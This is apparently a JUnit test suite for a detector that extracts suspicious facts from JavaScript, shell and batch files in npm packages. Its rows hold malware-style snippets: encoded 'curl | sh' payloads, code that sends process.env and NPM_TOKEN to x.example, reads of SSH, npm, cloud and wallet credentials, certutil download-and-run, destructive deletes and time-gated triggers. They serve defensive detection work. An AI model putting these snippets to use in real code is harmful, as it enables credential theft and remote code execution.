package dev.portcullis.js;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * One row per fact kind and technique: a realistic snippet and facts it must yield, written {@code kind detail @line}
 * (plus {@code /depth} inside payloads). Negative rows list facts that must not appear; an empty list: no facts at all.
 */
class JsFactsTest {

    /** The facts of a .js file as {@code kind detail @line[/depth]}. */
    static List<String> facts(String source) {
        return facts("index.js", source, JsOptions.defaults());
    }

    static List<String> facts(String path, String source, JsOptions options) {
        return JsFacts.extract(path, source.getBytes(StandardCharsets.UTF_8), options).facts().stream()
                .map(JsFactsTest::format).toList();
    }

    static String format(Fact f) {
        return f.kind().id() + " " + f.detail() + " @" + f.line() + (f.depth() > 0 ? "/" + f.depth() : "");
    }

    static String b64(String s) {
        return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    static String hex(String s) {
        StringBuilder out = new StringBuilder();
        for (byte b : s.getBytes(StandardCharsets.UTF_8)) {
            out.append(String.format("%02x", b));
        }
        return out.toString();
    }

    static Stream<Arguments> present() {
        return Stream.of(
                // modules
                Arguments.of("require", "const fs = require('fs');", List.of("require fs @1")),
                Arguments.of("import from", "import { readFile } from 'node:fs/promises';", List.of("require node:fs/promises @1")),
                Arguments.of("import side effect", "import './setup.js';", List.of("require ./setup.js @1")),
                Arguments.of("export from", "export * from './lib.mjs';", List.of("require ./lib.mjs @1")),
                Arguments.of("constant folding", "const cp = require('child_' + 'process');\ncp.exec(cmd);",
                        List.of("require child_process @1", "child-process child_process.exec @2")),
                Arguments.of("folding through constants", "const a = 'child_';\nconst b = a + 'process';\nrequire(b).spawn('x');",
                        List.of("require child_process @3", "child-process child_process.spawn @3")),
                Arguments.of("computed require", "const m = require(path.join(__dirname, name));",
                        List.of("dynamic-require path.join(__dirname, name) @1")),
                Arguments.of("require alias", "var r = require;\nr(x);", List.of("dynamic-require x @2")),
                Arguments.of("computed import", "await import(url);", List.of("dynamic-require url @1", "remote-import computed @1")),
                Arguments.of("data import", "import('data:text/javascript,' + code);", List.of("dynamic-require 'data:text/javascript,' + code @1",
                        "remote-import computed @1")),
                Arguments.of("https import", "await import('https://cdn.example/x.mjs');", List.of("remote-import https @1")),
                // child_process
                Arguments.of("destructured", "const { exec, spawn: run } = require('child_process');\nexec('ls');\nrun('ls');",
                        List.of("child-process child_process.exec @2", "child-process child_process.spawn @3")),
                Arguments.of("member of require", "require('node:child_process').execSync('whoami');",
                        List.of("require node:child_process @1", "child-process child_process.execSync @1")),
                Arguments.of("member alias", "const run = require('child_process').execFileSync;\nrun('id');",
                        List.of("child-process child_process.execFileSync @2")),
                Arguments.of("ES import", "import * as cp from 'child_process';\ncp.fork('./w.js');",
                        List.of("child-process child_process.fork @2")),
                Arguments.of("ES named import", "import { spawnSync as s } from 'node:child_process';\ns('git', ['status']);",
                        List.of("child-process child_process.spawnSync @2")),
                Arguments.of("bracket member", "const c = require('child_process');\nc['exec']('id');",
                        List.of("child-process child_process.exec @2")),
                Arguments.of("Bun.spawn", "Bun.spawn(['sh', '-c', cmd]);", List.of("child-process Bun.spawn @1")),
                Arguments.of("execa", "import { execa } from 'execa';\nawait execa('npm', ['publish']);",
                        List.of("child-process execa.execa @2", "npm-publish npm publish @2")),
                // network
                Arguments.of("https.request", "const https = require('https');\nhttps.request({ host: 'x.example' });",
                        List.of("network https.request @2")),
                Arguments.of("net.connect", "const net = require('net');\nconst s = net.connect(4444, '192.0.2.1');",
                        List.of("network net.connect @2")),
                Arguments.of("dgram", "require('dgram').createSocket('udp4');", List.of("network dgram.createSocket @1")),
                Arguments.of("dns", "const dns = require('dns');\ndns.resolveTxt(data + '.x.example', cb);", List.of("network dns.resolveTxt @2")),
                Arguments.of("fetch", "await fetch('https://x.example/c', { method: 'POST' });", List.of("network fetch @1")),
                Arguments.of("WebSocket", "const ws = new WebSocket('wss://x.example');", List.of("network WebSocket @1")),
                Arguments.of("XMLHttpRequest", "const x = new XMLHttpRequest();", List.of("network XMLHttpRequest @1")),
                Arguments.of("axios require", "const axios = require('axios');\naxios.post(u, d);", List.of("network axios @1", "network axios.post @2")),
                // dynamic code
                Arguments.of("eval", "eval(code);", List.of("eval eval @1")),
                Arguments.of("indirect eval", "(0, eval)(code);", List.of("eval eval @1")),
                Arguments.of("new Function", "const f = new Function('a', body);", List.of("eval Function @1")),
                Arguments.of("vm", "const vm = require('vm');\nvm.runInNewContext(src, {});\nnew vm.Script(src);",
                        List.of("eval vm.runInNewContext @2", "eval vm.Script @3")),
                Arguments.of("string setTimeout", "setTimeout('alert(1)', 10);", List.of("eval setTimeout-string @1")),
                Arguments.of("Module._compile", "const m = new module.constructor();\nm._compile(src, 'x.js');", List.of("eval module._compile @2")),
                Arguments.of("eval'd string is analysed", "eval(\"require('child_process').exec('id')\");",
                        List.of("eval eval @1", "child-process child_process.exec @1")),
                // environment
                Arguments.of("env key", "const t = process.env.NPM_TOKEN;", List.of("env-read NPM_TOKEN @1")),
                Arguments.of("env bracket", "const t = process.env['GITHUB_TOKEN'];", List.of("env-read GITHUB_TOKEN @1")),
                Arguments.of("env computed", "const t = process.env[k];", List.of("env-read * @1")),
                Arguments.of("env destructured", "const { AWS_SECRET_ACCESS_KEY, HOME: h } = process.env;",
                        List.of("env-read AWS_SECRET_ACCESS_KEY @1", "env-read HOME @1")),
                Arguments.of("env stringify", "body = JSON.stringify(process.env);", List.of("env-bulk JSON.stringify @1")),
                Arguments.of("env entries", "for (const [k, v] of Object.entries(process.env)) send(k, v);", List.of("env-bulk Object.entries @1")),
                Arguments.of("env spread", "const all = { ...process.env };", List.of("env-bulk spread @1")),
                Arguments.of("env for-in", "for (const k in process.env) {}", List.of("env-bulk for-in @1")),
                // file system
                Arguments.of("fs write", "const fs = require('fs');\nfs.writeFileSync(p, d);\nfs.promises.appendFile(p, d);",
                        List.of("fs-write fs.writeFileSync @2", "fs-write fs.appendFile @3")),
                Arguments.of("fs destructive", "import { rmSync } from 'fs';\nrmSync(home, { recursive: true, force: true });",
                        List.of("fs-destructive fs.rmSync @2")),
                Arguments.of("rimraf", "const rimraf = require('rimraf');\nrimraf.sync('/');", List.of("fs-destructive rimraf @2")),
                // sensitive paths
                Arguments.of("npmrc", "fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');", List.of("sensitive-path npmrc @1")),
                Arguments.of("ssh key", "read('~/.ssh/id_rsa');", List.of("sensitive-path ssh @1")),
                Arguments.of("aws", "read(home + '/.aws/credentials');", List.of("sensitive-path aws @1")),
                Arguments.of("dotenv file", "fs.readFileSync('.env');", List.of("sensitive-path env-file @1")),
                Arguments.of("chrome", "p = 'AppData/Local/Google/Chrome/User Data/Default/Login Data';", List.of("sensitive-path browser-profile @1")),
                Arguments.of("metamask", "ext = 'nkbihfbeogaeaoehlefnkodbefgpgknn';", List.of("sensitive-path wallet @1")),
                Arguments.of("wallet.dat", "find('wallet.dat');", List.of("sensitive-path wallet @1")),
                Arguments.of("solana", "read(home + '/.config/solana/id.json');", List.of("sensitive-path wallet @1")),
                Arguments.of("shell rc", "fs.appendFileSync(home + '/.bashrc', line);", List.of("sensitive-path shell-rc @1")),
                Arguments.of("git credentials", "read('~/.git-credentials');", List.of("sensitive-path git-credentials @1")),
                Arguments.of("kube", "read('.kube/config');", List.of("sensitive-path kube @1")),
                Arguments.of("docker", "read(h + '/.docker/config.json');", List.of("sensitive-path docker @1")),
                Arguments.of("gcloud", "read(h + '/.config/gcloud/credentials.db');", List.of("sensitive-path cloud-config @1")),
                // locale and time
                Arguments.of("time zone", "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;", List.of("locale-check timeZone @1")),
                Arguments.of("LANG", "if (process.env.LANG.startsWith('ru')) {}", List.of("locale-check env LANG @1")),
                Arguments.of("geo ip", "https.get('https://api.ipgeolocation.io/ipgeo?apiKey=x');", List.of("locale-check geo-ip @1")),
                Arguments.of("time gate", "if (Date.now() > 1767225600000) run();", List.of("time-gate Date.now() > 1767225600000 @1")),
                Arguments.of("time gate reversed", "if (1767225600000 < new Date().getTime()) run();",
                        List.of("time-gate 1767225600000 < new Date().getTime() @1")),
                Arguments.of("time gate date", "if (new Date() > new Date('2026-03-01')) run();",
                        List.of("time-gate new Date() > new Date('2026-03-01') @1")),
                Arguments.of("time gate on a named constant", "const LIMIT = 1767225600000;\nif (Date.now() >= LIMIT) run();",
                        List.of("time-gate Date.now() >= LIMIT @2")),
                Arguments.of("time gate on a named date", "var LIMIT = new Date('2026-03-01');\nif (new Date() > LIMIT) run();",
                        List.of("time-gate new Date() > LIMIT @2")),
                Arguments.of("time gate on Date.UTC, reversed", "const DEADLINE = Date.UTC(2026, 2, 1);\nif (DEADLINE < Date.now()) boom();",
                        List.of("time-gate DEADLINE < Date.now() @2")),
                Arguments.of("time gate on a named year", "const YEAR = 2026;\nif (new Date().getFullYear() === YEAR) go();",
                        List.of("time-gate new Date().getFullYear() === YEAR @2")),
                // sensitive strings inside decoded payloads count like plain literals, one level deeper
                Arguments.of("geo-ip host in atob", "https.get(atob('" + b64("https://ipapi.co/json/") + "'), cb);",
                        List.of("locale-check geo-ip @1/1")),
                Arguments.of("ssh key in hex", "const p = Buffer.from('" + hex("/.ssh/id_rsa") + "', 'hex').toString();",
                        List.of("sensitive-path ssh @1/1")),
                Arguments.of("npmrc in char codes", "read(home + String.fromCharCode(47,46,110,112,109,114,99));",
                        List.of("sensitive-path npmrc @1/1")),
                Arguments.of("npmrc in a short atob", "read(home + atob('" + b64("/.npmrc") + "'));",
                        List.of("sensitive-path npmrc @1/1")),
                Arguments.of("geo-ip in a base64 blob", "const s = '" + b64("https://ip-api.com/json/?fields=countryCode") + "';",
                        List.of("locale-check geo-ip @1/1")),
                Arguments.of("npmrc in escapes", "read(home + '\\x2f\\x2e\\x6e\\x70\\x6d\\x72\\x63');",
                        List.of("sensitive-path npmrc @1/1")),
                Arguments.of("geo-ip inside a decoded script", "eval(atob('" + b64("fetch('https://ipinfo.io/json').then(r => r.json())") + "'));",
                        List.of("locale-check geo-ip @1/1")),
                // sabotage
                Arguments.of("colors infinite loop", "let am = require('../lib/custom/american');\nam();\n"
                        + "for (let i = 666; i < Infinity; i++) {\n  if (i % 333) {\n  }\n  console.log('testing'.zalgo)\n}",
                        List.of("endless-loop for (let i = 666; i < Infinity; i++) @3")),
                Arguments.of("while true on require", "const x = 1;\nwhile (true) { console.log('x'); }", List.of("endless-loop while (true) @2")),
                Arguments.of("for ever", "for (;;) spin();", List.of("endless-loop for (;;) @1")),
                Arguments.of("do while true", "do {\n  hog();\n} while (!0);", List.of("endless-loop do … while (!0) @1")),
                // decoding
                Arguments.of("hex escapes", "var m = '\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73';",
                        List.of("encoded-payload escape @1")),
                Arguments.of("fromCharCode", "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec(c);",
                        List.of("encoded-payload char-codes @1", "require child_process @1", "child-process child_process.exec @1")),
                Arguments.of("atob payload", "eval(atob('" + b64("require('child_process').exec('curl https://x.example/p | sh')") + "'));",
                        List.of("eval eval @1", "encoded-payload base64 @1", "child-process child_process.exec @1/1",
                                "pipe-to-shell sh @1/1", "download https://x.example/p @1/1")),
                Arguments.of("Buffer hex", "const p = Buffer.from('" + hex("fetch('https://x.example')") + "', 'hex').toString();",
                        List.of("encoded-payload hex @1", "network fetch @1/1")),
                Arguments.of("hex blob", "var data = ['" + hex("npm_package_description") + "'];",
                        List.of("encoded-payload hex @1")),
                Arguments.of("base64 blob", "const s = '" + b64("require('https').get('https://x.example/' + process.env.NPM_TOKEN)") + "';",
                        List.of("encoded-payload base64 @1", "network https.get @1/1", "env-read NPM_TOKEN @1/1")),
                Arguments.of("nested payloads", "eval(atob('" + b64("eval(atob('" + b64("require('dns').lookup(x)") + "'))") + "'));",
                        List.of("encoded-payload base64 @1", "encoded-payload base64 @1/1", "network dns.lookup @1/2")),
                Arguments.of("data URL import", "import('data:text/javascript;base64," + b64("fetch('https://x.example')") + "');",
                        List.of("remote-import data @1", "network fetch @1/1")),
                // obfuscation
                Arguments.of("string array", "var _0x4f2a=['log','exec','child_process','https','get'];"
                        + "(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0x4f2a,0x1b3));",
                        List.of("obfuscation string-array @1")),
                Arguments.of("packer", "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))",
                        List.of("obfuscation packer @1", "eval eval @1")),
                // unicode
                Arguments.of("bidi", "const access = 'user\u202E \u2066// check admin\u2069 \u2066';", List.of("invisible-unicode U+202E @1",
                        "invisible-unicode U+2066 @1")),
                Arguments.of("hangul filler identifier", "const { timeout, \u3164 } = req.query;\nexec(\u3164);",
                        List.of("invisible-unicode U+3164 @1")),
                Arguments.of("hidden child", "spawn(dll, [], { detached: true, stdio: 'ignore', windowsHide: true });",
                        List.of("hidden-process detached @1", "hidden-process windowsHide @1")),
                Arguments.of("minified hidden child", "c.spawn(p,a,{detached:!0,windowsHide:!0})",
                        List.of("hidden-process detached @1", "hidden-process windowsHide @1")),
                Arguments.of("TypeScript call without this", "const child_process_1 = require(\"child_process\");\n"
                        + "(0, child_process_1.exec)(cmd, () => {});", List.of("child-process child_process.exec @2")),
                Arguments.of("TypeScript interop default", "const fs_1 = __importDefault(require(\"fs\"));\n"
                        + "fs_1.default.writeFileSync(p, d);", List.of("fs-write fs.writeFileSync @2")),
                Arguments.of("require through a global property", "global['r'] = require;\n"
                        + "var cp = global['r']('child_process');\ncp.exec(c);\nglobalThis.q = require; q('https').get(u);",
                        List.of("require child_process @2", "child-process child_process.exec @3", "network https.get @4")),
                Arguments.of("code pushed out of view", "module.exports = ua;" + " ".repeat(500) + "run();",
                        List.of("obfuscation whitespace-gap @1")),
                Arguments.of("name split into a joined array", "var x = ['re', 'gs', 'vr', '32'].join('');\n"
                        + "require('child_process').spawn(x + '.exe', ['/s']);", List.of("child-process child_process.spawn @2")),
                Arguments.of("socket piped into a child", "s.pipe(sh.stdin);", List.of("stdin-pipe sh.stdin @1")),
                Arguments.of("computed member of a module", "const cp = require('child_process');\ncp['sp' + 'awn']('sh');",
                        List.of("child-process child_process.spawn @2")),
                Arguments.of("Function through a computed constructor", "[][('fil'+'ter')][('constr'+'uctor')](src)();",
                        List.of("eval computed constructor @1")),
                Arguments.of("Function constructor kept in a variable", "const F = [][('fil' + 'ter')][('constr' + 'uctor')];\nF(src)();",
                        List.of("eval computed constructor @1")),
                Arguments.of("internal spawn binding", "process.binding('spawn_sync').spawn(opts);",
                        List.of("child-process process.binding('spawn_sync') @1")),
                Arguments.of("BOM between tokens", "const a = 1;\nconst\uFEFFb = 2;", List.of("invisible-unicode U+FEFF @2")),
                Arguments.of("profile path", "fs.appendFileSync(home + '/.profile', line);", List.of("sensitive-path shell-rc @1")),
                Arguments.of("tag characters", "// hidden \uDB40\uDC41\uDB40\uDC42\nrun();", List.of("invisible-unicode U+E0041 @1")),
                Arguments.of("variation selectors carrying a payload (GlassWorm)", "\nconst s = decode('|"
                        + "\uDB40\uDD10\uDB40\uDD21\uFE01\uFE02\uDB40\uDD33\uDB40\uDD44\uFE0A\uFE0B\uDB40\uDD55');",
                        List.of("invisible-unicode variation-selectors @2")));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("present")
    void yieldsTheFactsOfItsTechnique(String name, String source, List<String> expected) {
        assertThat(facts(source)).containsAll(expected);
    }

    static Stream<Arguments> absent() {
        return Stream.of(
                Arguments.of("require in a comment", "// const cp = require('child_process'); cp.exec(x)\n/* eval(x) */", List.of()),
                Arguments.of("require in a string used as text", "console.log(\"use require('child_process') with care\");",
                        List.of("require child_process @1")),
                Arguments.of("webpack runtime", "var m = __webpack_require__(42);\n__webpack_require__.d(exports, {});",
                        List.of("dynamic-require 42 @1", "require 42 @1")),
                Arguments.of("method named exec", "const r = /a(b)/.exec(s);\nthis.spawn = db.exec('select 1');",
                        List.of("child-process child_process.exec @1", "child-process child_process.exec @2")),
                Arguments.of("reused minified name", "var a=require(\"child_process\");a.exec(c);\na=/x/;a.exec(s);",
                        List.of("child-process child_process.exec @2")),
                Arguments.of("member named fetch", "this.fetch('/api');\ncache.fetch(k);", List.of("network fetch @1", "network fetch @2")),
                Arguments.of("local function named fetch", "function fetch(u) { return https.get(u); }\nfetch(u);", List.of("network fetch @2")),
                Arguments.of("process.env passed whole to a child", "spawn(cmd, args, { env: process.env });", List.of("env-bulk spread @1")),
                Arguments.of("timing, not gating", "const took = Date.now() - start;\nif (Date.now() - last > 1000) flush();",
                        List.of()),
                Arguments.of("short hex is an id", "const color = 'ff00ff'; const sha = '" + "ab".repeat(20) + "';", List.of()),
                Arguments.of("regex that looks like code", "const re = /require\\('x'\\)/g; const d = a / b / c;", List.of()),
                Arguments.of("array methods are not a rotation", "['pop', 'push', 'shift', 'sort', 'splice'].forEach(f);",
                        List.of("obfuscation string-array @1")),
                Arguments.of("emoji with variation selectors", "const hearts = '\u2764\uFE0F \u2764\uFE0F \u2764\uFE0F \u2764\uFE0F "
                        + "\u2764\uFE0F \u2764\uFE0F \u2764\uFE0F \u2764\uFE0F \u2764\uFE0F';", List.of()),
                Arguments.of("emoji with joiners in a string", "const family = '\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67';", List.of()),
                Arguments.of("BOM at start", "\uFEFFmodule.exports = 1;", List.of()),
                Arguments.of("BOM check in a string", "if (data.indexOf('\uFEFF') === 0) data = data.slice(1);", List.of()),
                Arguments.of("escaped non-Latin text", "months: '\\u044f\\u043d\\u0432\\u0430\\u0440\\u044c_\\u0444\\u0435\\u0432'", List.of()),
                Arguments.of("while true in a function", "function serve() {\n  while (true) { handle(); }\n}", List.of("endless-loop while (true) @2")),
                Arguments.of("top-level loop with a break", "while (true) {\n  const l = read();\n  if (!l) break;\n}",
                        List.of("endless-loop while (true) @1")),
                Arguments.of("top-level loop that exits", "for (;;) { if (done()) process.exit(0); }", List.of("endless-loop for (;;) @1")),
                Arguments.of("minified loop inside a function", "!function(e){var t;for(;;){t=e.next();e.push(t)}}(x);",
                        List.of("endless-loop for(;;) @1")),
                Arguments.of("bounded top-level loops", "for (let i = 0; i < n; i++) go(i);\nwhile (queue.length) queue.pop();\n"
                        + "for (const k of keys) use(k);\ndo { step(); } while (more());", List.of("endless-loop for (let i = 0; i < n; i++) @1")),
                Arguments.of("state compared with the time", "let last = 0;\nif (Date.now() > last) flush();", List.of()),
                Arguments.of("start time compared", "const started = Date.now();\nwhile (Date.now() < started) tick();",
                        List.of("endless-loop while (Date.now() < started) @2")),
                Arguments.of("arithmetic on a named date", "const LIMIT = 1767225600000;\nif (Date.now() > LIMIT + grace) go();", List.of()),
                Arguments.of("timeout constant", "const TIMEOUT = 5000;\nif (Date.now() - start > TIMEOUT) abort();", List.of()),
                Arguments.of("time arithmetic", "if (last + 500 < Date.now()) flush();", List.of()),
                Arguments.of("environment for a child", "const env = extendEnv ? {...process.env, ...extra} : extra;", List.of()),
                Arguments.of("profile option", "const key = '.profile';", List.of()),
                Arguments.of("blanks before a comment", "a();" + " ".repeat(500) + "// note\nb();", List.of()),
                Arguments.of("options that do not hide", "spawn(c, a, { detached: false, windowsHide: opts.hide });\n"
                        + "const s = { detached: 1 };", List.of()),
                Arguments.of("path not a dotfile", "const env = 'process.env.NODE_ENV'; load('./environment.js');", List.of()));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("absent")
    void doesNotInventFacts(String name, String source, List<String> forbidden) {
        List<String> facts = facts(source);
        if (forbidden.isEmpty()) {
            assertThat(facts).isEmpty();
        } else {
            assertThat(facts).doesNotContainAnyElementsOf(forbidden);
        }
        assertThat(facts).noneMatch(f -> f.startsWith("unparsable") || f.startsWith("invisible-unicode")
                || f.startsWith("sensitive-path") || f.startsWith("encoded-payload") || f.startsWith("time-gate"));
    }

    @Test
    void theDeepestPayloadIsStillScreened() {
        JsOptions noDecoding = new JsOptions(List.of(), new JsLimits(0, 240, 2000, 1 << 20, 1 << 20));
        assertThat(facts("index.js", "https.get(atob('" + b64("https://ipapi.co/json/") + "'), cb);", noDecoding))
                .contains("encoded-payload base64 @1", "locale-check geo-ip @1/1");
        String deepest = "read(h + '/.ssh/id_rsa')";
        for (int level = 0; level < 4; level++) {
            deepest = "eval(atob('" + b64(deepest) + "'));";
        }
        assertThat(facts(deepest)).contains("encoded-payload base64 @1/3", "sensitive-path ssh @1/4");
    }

    @Test
    void batchFilesKeepTheirBackslashes() {
        String bat = "@echo off\r\ncertutil.exe -urlcache -f http://198.51.100.9/sdd.bat %TEMP%\\sdd.bat\r\n"
                + "cmd /c %TEMP%\\sdd.bat\r\nstart /B .\\jsextension.exe -k\r\n";
        assertThat(facts("preinstall.bat", bat, JsOptions.defaults())).contains("download http://198.51.100.9/sdd.bat @2",
                "runs-file %TEMP%/sdd.bat @3", "runs-file jsextension.exe @4");
    }

    @Test
    void highEntropyBlobIsObfuscation() {
        StringBuilder random = new StringBuilder();
        java.util.Random r = new java.util.Random(7);
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        for (int i = 0; i < 400; i++) {
            random.append(alphabet.charAt(r.nextInt(alphabet.length())));
        }
        assertThat(facts("const k = '" + random + "';")).contains("obfuscation high-entropy @1");
    }

    @Test
    void manyHexIdentifiersAreObfuscation() {
        StringBuilder code = new StringBuilder();
        for (int i = 0; i < 30; i++) {
            code.append("var _0x").append(Integer.toHexString(0xa000 + i)).append("=").append(i).append(";\n");
        }
        assertThat(facts(code.toString())).contains("obfuscation hex-identifiers @1");
    }

    @Test
    void denseLongLineInAHandWrittenFileIsObfuscation() {
        String normal = "function add(a, b) {\n  return a + b;\n}\n".repeat(200);
        String payload = "!function(){var a=require('https');a.get('https://x.example/'+JSON.stringify(process.env))}();".repeat(40);
        List<String> facts = facts(normal + payload + "\n");
        assertThat(facts).contains("obfuscation long-line @601");
        FileFacts minified = JsFacts.extract("dist/x.min.js", payload.repeat(10).getBytes(StandardCharsets.UTF_8), JsOptions.defaults());
        assertThat(minified.minified()).isTrue();
        assertThat(minified.facts()).noneMatch(f -> f.detail().equals("long-line"));
    }

    @Test
    void stringPatternsMatchDecodedLiterals() {
        JsOptions options = new JsOptions(List.of(new StringPattern("miner-pool", Pattern.compile("stratum\\+tcp://"))),
                JsLimits.defaults());
        assertThat(facts("index.js", "connect(atob('" + b64("stratum+tcp://pool.x.example:3333") + "'));", options))
                .contains("string-match miner-pool @1", "encoded-payload base64 @1");
        assertThat(facts("index.js", "connect('tcp://pool.x.example');", options)).noneMatch(f -> f.startsWith("string-match"));
    }

    @Test
    void evidenceIsBoundedAndOnOneLine() {
        String longLine = "const x = require('child_process'); " + "x.exec('a\\nb'); ".repeat(100);
        JsOptions options = new JsOptions(List.of(), new JsLimits(3, 40, 2000, 1 << 20, 1 << 20));
        FileFacts facts = JsFacts.extract("a.js", longLine.getBytes(StandardCharsets.UTF_8), options);
        assertThat(facts.facts()).isNotEmpty().allSatisfy(f -> {
            assertThat(f.evidence().length()).isLessThanOrEqualTo(40);
            assertThat(f.evidence()).doesNotContain("\n");
        });
    }

    @Test
    void factsAreOrderedByLine() {
        String code = "eval(atob('" + b64("require('net').connect(1)") + "'));\nrequire('fs');\nfetch(u);";
        List<Fact> facts = JsFacts.extract("a.js", code.getBytes(StandardCharsets.UTF_8), JsOptions.defaults()).facts();
        assertThat(facts).isSortedAccordingTo(java.util.Comparator.comparingInt(Fact::line));
        assertThat(facts).isEqualTo(JsFacts.extract("a.js", code.getBytes(StandardCharsets.UTF_8), JsOptions.defaults()).facts());
    }

    static Stream<Arguments> languages() {
        return Stream.of(
                Arguments.of("lib/index.js", "x", FileFacts.Language.JAVASCRIPT),
                Arguments.of("esm/index.mjs", "x", FileFacts.Language.JAVASCRIPT),
                Arguments.of("cjs/index.cjs", "x", FileFacts.Language.JAVASCRIPT),
                Arguments.of("bin/cli", "#!/usr/bin/env node\nx", FileFacts.Language.JAVASCRIPT),
                Arguments.of("setup.sh", "x", FileFacts.Language.SHELL),
                Arguments.of("bin/install", "#!/bin/bash\nx", FileFacts.Language.SHELL),
                Arguments.of("install.bat", "x", FileFacts.Language.BATCH),
                Arguments.of("install.CMD", "x", FileFacts.Language.BATCH),
                Arguments.of("install.ps1", "x", FileFacts.Language.POWERSHELL),
                Arguments.of("README.md", "require('child_process').exec('x')", FileFacts.Language.OTHER),
                Arguments.of("index.d.ts", "x", FileFacts.Language.OTHER));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("languages")
    void picksTheLanguageByNameAndContent(String path, String content, FileFacts.Language language) {
        FileFacts facts = JsFacts.extract(path, content.getBytes(StandardCharsets.UTF_8), JsOptions.defaults());
        assertThat(facts.language()).isEqualTo(language);
        if (language == FileFacts.Language.OTHER) {
            assertThat(facts.facts()).isEmpty();
        }
    }

    static Stream<Arguments> binaries() {
        byte[] elf = {0x7F, 'E', 'L', 'F', 2, 1, 1, 0};
        byte[] pe = new byte[128];
        pe[0] = 'M';
        pe[1] = 'Z';
        pe[0x3C] = 64;
        pe[64] = 'P';
        pe[65] = 'E';
        byte[] machO = {(byte) 0xCF, (byte) 0xFA, (byte) 0xED, (byte) 0xFE, 7, 0, 0, 1};
        byte[] fat = {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE, 0, 0, 0, 2};
        return Stream.of(Arguments.of("bin/esbuild", elf, "elf"), Arguments.of("lib/x.js", elf, "elf"),
                Arguments.of("prebuilds/win32/addon.node", pe, "pe"), Arguments.of("bin/tool", machO, "mach-o"),
                Arguments.of("bin/universal", fat, "mach-o"));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("binaries")
    void recognisesExecutablesByMagic(String path, byte[] content, String format) {
        FileFacts facts = JsFacts.extract(path, content, JsOptions.defaults());
        assertThat(facts.language()).isEqualTo(FileFacts.Language.BINARY);
        assertThat(facts.facts()).extracting(JsFactsTest::format).containsExactly("binary " + format + " @0");
    }

    @Test
    void javaClassFileIsNotMachO() {
        byte[] classFile = {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE, 0, 0, 0, 65};
        assertThat(JsFacts.extract("A.class", classFile, JsOptions.defaults()).language()).isEqualTo(FileFacts.Language.OTHER);
    }

    @Test
    void shellFilesAreReadAsCommands() {
        assertThat(facts("install.sh", "#!/bin/sh\nset -e\ncurl -fsSL https://x.example/i.sh | bash\nnode ./lib/post.js\n",
                JsOptions.defaults())).contains("pipe-to-shell bash @3", "download https://x.example/i.sh @3", "runs-file lib/post.js @4");
        assertThat(facts("install.ps1", "iwr https://x.example/a.ps1 | iex\n", JsOptions.defaults()))
                .contains("pipe-to-shell iex @1", "download https://x.example/a.ps1 @1");
        assertThat(facts("clean.bat", "@echo off\r\ndel /s /q %USERPROFILE%\\Documents\r\n", JsOptions.defaults()))
                .contains("fs-destructive del /s @2");
    }
}
